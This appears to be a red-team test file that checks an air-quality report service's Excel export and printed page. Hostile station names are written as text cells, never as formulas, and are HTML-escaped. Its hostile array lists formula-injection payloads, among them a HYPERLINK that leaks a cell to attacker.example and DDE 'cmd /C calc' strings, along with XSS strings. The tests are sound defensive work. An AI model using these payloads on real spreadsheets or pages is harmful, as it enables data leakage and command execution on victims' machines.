import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parsePeriod } from '../../services/compliance/period.ts';
import type { OfficialReport } from '../../services/reports/official-report.ts';
import { officialReportPage } from '../../services/reports/report-page.ts';
import type { ReportTable } from '../../services/reports/report-table.ts';
import { XLSX_HEADER_ROW, officialReportXlsx } from '../../services/reports/report-xlsx.ts';

// What a registry's names (a station's, a section's, a charging group's) could carry into the bureau's tables.
const hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'];

function reportWith(rows: ReportTable['rows']): OfficialReport {
  const table: ReportTable = {
    id: 'ranking', title: '<b>排名</b>', sheet: 'ranking', notes: ['=1+1 <i>note</i>'],
    columns: [{ key: 'station', header: '=站点<th>' }, { key: 'value', header: 'PM2.5 (µg/m³)', numFmt: '0' }],
    rows,
  };
  return { period: parsePeriod('2025-03', Date.parse('2025-06-01T00:00:00Z')), lang: 'zh', district: '罗湖区', generatedAtMs: Date.parse('2025-06-01T00:00:00Z'), tables: [table] };
}

/**
 * The bureau's tables (issue 22 items 3-4) with hostile names in them: in the workbook every one is a
 * text cell, never a formula (CSV/formula injection, OWASP); on the printed page every one is escaped.
 */
describe('red team: hostile text in the official tables', () => {
  it('writes text that starts with = + - @ as text cells, never formulas', async () => {
    const report = reportWith(hostile.map((station, i) => ({ station, value: i })));
    const buffer = await officialReportXlsx(report);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('ranking')!;
    hostile.forEach((text, i) => {
      const cell = sheet.getRow(XLSX_HEADER_ROW + 1 + i).getCell(1);
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(text);
      expect(cell.formula).toBeUndefined();
    });
    expect(sheet.getRow(XLSX_HEADER_ROW).getCell(1).type).toBe(ExcelJS.ValueType.String);
    // No formula anywhere in the sheet: titles, notes and the signature lines included.
    const formulas: string[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => { if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address); }));
    expect(formulas).toEqual([]);
  });

  it('escapes every hostile text on the printed page', () => {
    const page = officialReportPage(reportWith(hostile.map((station, i) => ({ station, value: i }))));
    expect(page).not.toMatch(/<script>alert|<img src=x|<b>排名|<i>note|<th>"/);
    expect(page).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
  });
});
